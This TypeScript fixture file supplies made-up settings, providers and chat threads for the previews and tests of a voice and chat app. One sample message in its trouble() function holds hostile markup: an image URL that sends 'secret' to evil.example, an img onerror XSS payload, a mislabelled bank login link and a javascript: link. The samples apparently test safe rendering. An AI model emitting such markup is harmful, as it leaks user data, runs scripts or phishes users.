/**
 * Made-up content for the preview, the gallery and tests. Never part of the app.
 */
import type { BlockView, ConversationSummary, Mark, MessageView, ModelListView, ModelView, ProviderView, ServiceView, Settings, Snapshot, Spent, ToolEnd, ToolState, VoiceView } from "../generated";

export const defaultSettings: Settings = {
  language: "system",
  theme: "system",
  text_scale: 1,
  provider: "openai",
  input_device: null,
  output_device: null,
  audio_block: 960,
  warm_microphone: false,
  echo: "cancel",
  talk_key: "auto",
  hotkey: "",
  reasoning: "auto",
  show_figures: true,
  defaults: { chat: null },
  favourites: [],
  tools: true,
  voice: { provider: "builtin", model: "echo", voice: null },
  patience: { by: "silence", ms: 800 },
  local_turns: false,
  idle_hang_up_s: 300,
  spending_cap: { cents: 200, minutes: 60 },
  voice_instructions: "",
};

const nothingSpent: Spent = { said_ms: 0, answered_ms: 0, input_tokens: 0, output_tokens: 0, dollars: null };

export const idleVoice: VoiceView = {
  state: "idle",
  for_ms: 0,
  mode: "push_to_talk",
  muted: false,
  locked: false,
  conversation_id: null,
  in_call: false,
  with: { provider: "builtin", model: "echo", voice: null },
  with_name: "Echo",
  kept: null,
  waiting: [],
  error: null,
  retry_in_ms: null,
  spent: { call: nothingSpent, conversation: nothingSpent, today: nothingSpent, capped: false },
};

export const openai: ProviderView = {
  id: "openai",
  name: "OpenAI",
  base_url: "https://api.openai.com/v1",
  host: "api.openai.com",
  local: false,
  model: "gpt-5.2",
  builtin: true,
  voices: ["alloy", "cedar", "marin"],
  key: "missing",
};

export const ollama: ProviderView = {
  id: "ollama",
  name: "Ollama",
  base_url: "http://localhost:11434/v1",
  host: "localhost:11434",
  local: true,
  model: "qwen3:8b",
  builtin: false,
  voices: null,
  key: "missing",
};

export const services: ServiceView[] = [
  { id: "deepseek", name: "DeepSeek", base_url: "https://api.deepseek.com" },
  { id: "azure", name: "Azure OpenAI", base_url: "" },
  { id: "vllm", name: "vLLM", base_url: "http://localhost:8000/v1" },
];

export function emptySnapshot(): Snapshot {
  return {
    next_event: 0,
    version: "0.1.0",
    data_folder: "~/.local/share/parlance",
    trouble: null,
    settings: { ...defaultSettings },
    providers: [{ ...openai, model: "" }],
    keyring: { state: "ready", store: "GNOME keyring" },
    conversations: [],
    conversation_count: 0,
    voice: { ...idleVoice },
    hotkey: { state: "off", command: "parlance-cli trigger toggle" },
    notices: [],
  };
}

function model(id: string, context_tokens: number | null, marks: Mark[], part: Partial<ModelView> = {}): ModelView {
  return { id, name: null, context_tokens, output_tokens: null, price: null, marks, may_chat: true, ...part };
}

/** What the providers of the samples list: one with prices and models for other uses, one whose last try failed. */
export function modelLists(): ModelListView[] {
  return [
    {
      provider: "openai",
      fetched_ms: Date.now() - 20 * 60_000,
      asking: false,
      error: null,
      models: [
        model("gpt-4.1-mini", 1_047_576, ["images", "tools", "structured"]),
        model("gpt-5.2", 400_000, ["images", "tools", "reasoning", "structured"], { price: { input: "1.75", output: "14.00" } }),
        model("gpt-audio", 128_000, ["audio", "tools"]),
        model("gpt-realtime", 32_000, ["audio", "tools", "realtime"], { may_chat: false }),
        model("text-embedding-3-small", null, ["embedding"], { may_chat: false }),
      ],
    },
    {
      provider: "ollama",
      fetched_ms: Date.now() - 26 * 3_600_000,
      asking: false,
      error: { code: "unreachable", provider: "Ollama", host: "localhost:11434", model: null, status: null, seconds: null, details: null, why: "connection_refused", near: [], retry_at_ms: null },
      models: [model("gemma3:4b", 131_072, ["images"]), model("qwen3:8b", 40_960, ["tools", "reasoning"])],
    },
  ];
}

const minute = 60_000;
const day = 24 * 60 * minute;

export function summaries(now: number): ConversationSummary[] {
  const line = (id: string, title: string, ago: number, spoken = false) => ({ id, title, updated_ms: now - ago, spoken, model: null });
  return [
    line("panels", "Two panels on the balcony", 2 * minute),
    line("train", "Night train to Vienna", 50 * minute, true),
    line("bread", "Why bread needs salt", 70 * minute),
    line("letter", "Letter to the landlord", 1.2 * day),
    line("spanish", "", 3 * day, true),
    line("regex", "Regex for invoice numbers", 4 * day),
    line("reading", "Reading list: attention", 40 * day),
  ];
}

export function message(part: Partial<MessageView> & Pick<MessageView, "id" | "author">): MessageView {
  return {
    conversation_id: "panels",
    name: part.author === "you" ? "" : "qwen3:8b",
    blocks: [],
    status: "complete",
    error: null,
    created_ms: Date.now() - 2 * minute,
    spoken: null,
    figures: null,
    files: [],
    ...part,
  };
}

const text = (words: string): BlockView => ({ type: "text", text: words });

export const answer = `About **41 kWh**. The railing is tilted 70° and loses the sun after four; last October had 71 kWh/m² on such a face, see [the measurements](https://example.org/sun).

| Month | Sun, kWh/m² | Two panels, kWh | Saved |
|---|--:|--:|--:|
| September | 98.2 | 57 | € 18 |
| October | 71.4 | **41** | € 13 |
| November | 38.0 | 22 | € 7 |

\`\`\`python
def yield_kwh(sun, area=4.0, eff=0.21, loss=0.32):
    return sun * area * eff * (1 - loss)  # shade and heat

yield_kwh(71.4)  # 40.8
\`\`\`

1. Tilt and direction are in the irradiance already.
2. What remains is *shade*: count it \`once\`.

> Measured on the spot, not computed.
`;

export const reasoning =
  "The railing faces south-west. Typical ready-made balcony sets lose 14 % to cable, inverter and heat. A 70° tilt is already in the irradiance figure, so it must not be counted twice. What remains is shade: the sun is gone after four, which in October is about one and a half hours of weak light.";

/** A thread that shows every kind of block. */
export function thread(): MessageView[] {
  return [
    message({
      id: "q1",
      author: "you",
      blocks: [text("How much would two panels on my balcony give me in October? The railing faces south-west.")],
    }),
    message({
      id: "a1",
      author: "they",
      blocks: [
        { type: "thinking", text: reasoning, ms: 12_300 },
        { type: "tool_call", id: "t1", name: "sun_hours", arguments: "{\"at\":\"48.21, 16.37\",\"month\":\"2025-10\"}", state: { is: "over" } },
        { type: "tool_result", id: "t1", name: "sun_hours", output: "{ \"kwh_per_m2\": 71.4, \"days\": 31, \"tilt\": 70 }", end: "done" },
        text(answer),
      ],
      figures: { input_tokens: 1204, output_tokens: 318, first_word_ms: 900, left_out: null },
    }),
    message({ id: "q2", author: "you", blocks: [{ type: "audio", media_id: "m1", ms: 3200 }], spoken: { ms: 3200, heard_ms: null, heard_chars: null, first_sound_ms: null, ours_ms: null, network_ms: null, model_ms: null } }),
    message({
      id: "a2",
      author: "they",
      name: "Echo",
      blocks: [{ type: "audio", media_id: "m2", ms: 3200 }],
      spoken: { ms: 3200, heard_ms: 2100, heard_chars: null, first_sound_ms: 84, ours_ms: 84, network_ms: null, model_ms: null },
    }),
    message({ id: "q3", author: "you", blocks: [text("Is 32 % loss fair for a railing like that?")] }),
    message({ id: "a3", author: "they", status: "stopped", blocks: [text("For a railing in the shade of a tree it is")] }),
  ];
}

/** Tool calls in every state, one of them asking. */
export function tools(): MessageView[] {
  const call = (id: string, name: string, args: object, state: ToolState = { is: "over" }) => ({ type: "tool_call" as const, id, name, arguments: JSON.stringify(args), state });
  const result = (id: string, name: string, output: string, end: ToolEnd = "done") => ({ type: "tool_result" as const, id, name, output, end });
  const many = ["Vienna", "Graz", "Linz", "Salzburg", "Wels"];
  return [
    message({
      id: "w1",
      author: "you",
      blocks: [text("What day is it, and what do the notes say about it?")],
      files: [{ id: "f1", name: "notes on the balcony.md", bytes: 18_240, kind: "text" }, { id: "f2", name: "railing.png", bytes: 412_000, kind: "image" }],
    }),
    message({
      id: "w2",
      author: "they",
      blocks: [
        call("c1", "current_time", { time_zone: "Europe/Vienna" }),
        result("c1", "current_time", "{\"time\":\"2026-11-24T23:12:00+01:00\",\"weekday\":\"Tuesday\",\"time_zone\":\"Europe/Vienna\"}"),
        call("c2", "read_file", { name: "budget.xlsx" }),
        result("c2", "read_file", "There is no such file here.", "failed"),
        call("c3", "read_file", { name: "diary.txt" }),
        result("c3", "read_file", "The person did not allow this.", "refused"),
        text("It is Tuesday."),
        ...many.map((city, index) => call(`m${index}`, "sun_hours", { city })),
        ...many.map((_, index) => result(`m${index}`, "sun_hours", "71.4")),
        text("And the sun hours are all the same."),
      ],
    }),
    message({ id: "w3", author: "you", blocks: [text("Go on.")] }),
    message({
      id: "w4",
      author: "they",
      status: "streaming",
      created_ms: Date.now(),
      blocks: [
        call("r1", "sun_hours", { at: "48.21, 16.37", month: "2025-11" }, { is: "running", for_ms: 4_200 }),
        call("r2", "read_file", { name: "notes on the balcony.md" }, { is: "asking" }),
        { type: "tool_call", id: "r3", name: "current_time", arguments: "{\"time_zo", state: { is: "coming" } },
      ],
    }),
  ];
}

/** Every way an answer can end badly, and what cannot be drawn. */
export function trouble(): MessageView[] {
  const error = { provider: "OpenAI", host: "api.openai.com", model: "gpt-5.2", status: null, seconds: null, details: null, why: null, near: [], retry_at_ms: null };
  return [
    message({ id: "t1", author: "you", blocks: [text("Why does bread need salt?")] }),
    message({ id: "t2", author: "they", status: "cut", blocks: [text("Bread without salt rises faster and tastes of")], error: { ...error, code: "cut_off" } }),
    message({ id: "t3", author: "they", status: "failed", error: { ...error, code: "rate_limit", seconds: 20, retry_at_ms: Date.now() + 20_000, status: "429", details: "Rate limit reached for requests" } }),
    message({
      id: "t4",
      author: "they",
      blocks: [
        text("A picture: ![a railing](https://evil.example/track?q=secret)\n\nRaw: <img src=x onerror=alert(1)>\n\nA link: [mybank.com](https://evil.example/login) and [a script](javascript:alert(1))"),
        { type: "other", kind: "image" },
      ],
    }),
    message({ id: "t5", author: "they", status: "failed", error: { ...error, code: "key_refused", status: "401", details: "Incorrect API key provided" } }),
  ];
}
